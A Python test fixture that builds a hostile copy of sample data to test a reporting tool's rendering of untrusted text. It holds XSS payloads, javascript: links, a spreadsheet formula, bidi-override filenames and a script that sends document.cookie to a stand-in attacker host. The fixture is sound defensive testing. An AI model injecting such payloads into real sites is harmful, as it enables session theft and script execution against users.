"""A hostile copy of the sample data: what an attacker or a careless export puts in text fields.

``write_hostile_sample(folder)`` copies data/sample with service names, incident titles,
milestone labels and the program's name replaced by script tags, event handlers, Markdown
links and images, ``javascript:`` URLs, bidi overrides, ANSI escapes, spreadsheet formulas,
TeX and very long text. The numbers are the sample's, so every page still has something to
show. Used by tests/test_hostile.py and tests/test_browser.py (issue #15).
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

from tests.conftest import SAMPLE_DIR

RLO = "\u202e"  # right-to-left override: "\u202egnp.exe" shows as "exe.png"
LONG_SERVICE = "long-service-" + "x" * 2_000
LONG_LABEL = "L" * 100_000

#: sample service -> hostile name (every table renamed alike, so links and joins still hold)
SERVICES = {
    "customer-profile": f"{RLO}gnp.exe",
    "reporting": "<script>alert('service')</script>",
    "collections": "<img src=x onerror=alert(1)>",
    "payment-gateway": "![pixel](https://evil.example/p.png)",
    "disbursement": "[clickme](javascript:alert(1))",  # the lowest coverage in 2021-03
    "credit-scoring": '=HYPERLINK("https://evil.example","x")',
    "notification": "\x1b[31mred\x1b[0m <a href='https://evil.example'>link</a>",
    "identity": "$\\frac{1}{0}$ $\\undefinedmacro$",
    "risk-engine": LONG_SERVICE,
}
TITLES = [
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "[title link](javascript:alert(document.domain))",
    "<svg onload=alert(1)>",
    f"Disk {RLO}lluf",
    "**bold** _it_ `code` <https://evil.example> https://evil.example/auto",
    "T" * 100_000,
]
MILESTONES = [
    ("2021-01-18", "[milestone](javascript:alert(1))"),
    ("2021-03-15", "<b onmouseover=alert(1)>hover</b>"),
    ("2021-05-10", LONG_LABEL),
    ("2021-07-05", f"$x^2$ {RLO}yranac"),
]
PROGRAM_NAME = "<script>alert('program')</script> [p](javascript:alert(1))"


def _quote(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def write_hostile_sample(folder: Path) -> Path:
    """Write the hostile copy of data/sample into ``folder`` (created); returns it."""
    folder.mkdir(parents=True, exist_ok=True)
    for path in sorted(SAMPLE_DIR.glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        header = rows[0]
        service = header.index("service")
        title = header.index("title") if "title" in header else None
        for i, row in enumerate(rows[1:]):
            row[service] = SERVICES.get(row[service], row[service])
            if title is not None and i < len(TITLES):
                row[title] = TITLES[i]
        with (folder / path.name).open("w", newline="", encoding="utf-8") as fh:
            csv.writer(fh).writerows(rows)
    program = (SAMPLE_DIR / "program.yml").read_text(encoding="utf-8")
    program = re.sub(r"(?m)^name: .*$", f"name: {_quote(PROGRAM_NAME)}", program)
    milestones = "".join(f"  - {{date: {d}, label: {_quote(lab)}}}\n" for d, lab in MILESTONES)
    program = re.sub(r"(?ms)^milestones:.*?\n(?=\S)", f"milestones:\n{milestones}", program)
    (folder / "program.yml").write_text(program, encoding="utf-8")
    return folder
